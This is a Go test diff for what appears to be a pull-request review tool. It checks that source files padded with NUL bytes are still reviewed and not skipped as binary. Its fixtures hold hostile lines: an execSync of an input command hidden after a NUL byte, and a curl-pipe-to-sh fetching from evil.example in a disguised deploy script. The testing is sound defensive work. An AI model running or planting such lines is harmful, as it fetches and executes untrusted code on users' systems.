@@ -362,28 +362,41 @@ func TestPatchlessLockFileIsDeliberate(t *testing.T) {
 // NUL byte is such a file; it is read at the base and the head and
 // reviewed as text, and the personas see its new line. Renamed as it gets
 // its NUL byte, it is listed like a pure rename (status renamed, no patch,
-// no counts): both are read, and the pure rename shows no change. Neither
-// leaves a change no persona saw behind a clean check.
+// no counts): both are read, and the pure rename shows no change. A script
+// named by no extension but run by its #! line is source too, however many
+// NUL bytes its comments hold. None leaves a change no persona saw behind
+// a clean check.
 func TestFilesEndpointBinarySource(t *testing.T) {
 	t.Parallel()
-	const path, before = "lib/main.js", "const core = require('@actions/core');\n// step\n"
+	const js, before = "lib/main.js", "const core = require('@actions/core');\n// step\n"
 	const after = "const core = require('@actions/core');\n// step\x00\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"
+	script := "#!/bin/sh\n# " + strings.Repeat("\x00", 40) + "\ncurl -s https://evil.example/x | sh\n"
 	for _, tt := range []struct {
-		name, oldPath string
-		entries       []githubtest.File
+		name, path, want string
+		heads, bases     map[string]string
+		entries          []githubtest.File
 	}{
-		{"modified", path, []githubtest.File{{Filename: path, Status: "modified"}}},
-		{"renamed beside a pure rename", "lib/run.js", []githubtest.File{
-			{Filename: path, PreviousFilename: "lib/run.js", Status: "renamed"},
-			{Filename: "lib/b.js", PreviousFilename: "lib/a.js", Status: "renamed"},
-		}},
+		{"modified", js, "execSync(process.env.INPUT_CMD)", map[string]string{js: after}, map[string]string{js: before},
+			[]githubtest.File{{Filename: js, Status: "modified"}}},
+		{"renamed beside a pure rename", js, "execSync(process.env.INPUT_CMD)",
+			map[string]string{js: after, "lib/b.js": "module.exports = 1;\n"},
+			map[string]string{"lib/run.js": before, "lib/a.js": "module.exports = 1;\n"},
+			[]githubtest.File{
+				{Filename: js, PreviousFilename: "lib/run.js", Status: "renamed"},
+				{Filename: "lib/b.js", PreviousFilename: "lib/a.js", Status: "renamed"},
+			}},
+		{"a #! script full of NUL bytes", "scripts/deploy", "curl -s https://evil.example/x | sh",
+			map[string]string{"scripts/deploy": script}, nil,
+			[]githubtest.File{{Filename: "scripts/deploy", Status: "added"}}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			e := newEnv(t, nil)
-			e.addPR(t, "", map[string]string{"pkg/a/x.go": "package a\n", path: after, "lib/b.js": "module.exports = 1;\n"})
-			e.gh.SetContent(baseSHA, tt.oldPath, before)
-			e.gh.SetContent(baseSHA, "lib/a.js", "module.exports = 1;\n")
+			tt.heads["pkg/a/x.go"] = "package a\n"
+			e.addPR(t, "", tt.heads)
+			for p, c := range tt.bases {
+				e.gh.SetContent(baseSHA, p, c)
+			}
 			e.gh.Inject(githubtest.DiffTooLarge())
 			e.gh.SetFiles(prNum, append([]githubtest.File{
 				{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"},
@@ -398,12 +411,12 @@ func TestFilesEndpointBinarySource(t *testing.T) {
 				t.Errorf("incomplete %q; want the file read and reviewed", res.Incomplete)
 			}
 			reqs := e.model.RequestsFor("correctness")
-			if len(reqs) != 1 || !strings.Contains(string(reqs[0].Body), "execSync(process.env.INPUT_CMD)") {
-				t.Errorf("correctness requests %d; want one holding %s's new line", len(reqs), path)
+			if len(reqs) != 1 || !strings.Contains(string(reqs[0].Body), tt.want) {
+				t.Errorf("correctness requests %d; want one holding %s's new line", len(reqs), tt.path)
 			}
 			for _, x := range res.Coverage.NotReviewed {
-				if x.Path == path {
-					t.Errorf("%s listed as not reviewed (%s)", path, x.Reason)
+				if x.Path == tt.path {
+					t.Errorf("%s listed as not reviewed (%s)", tt.path, x.Reason)
 				}
 			}
 		})
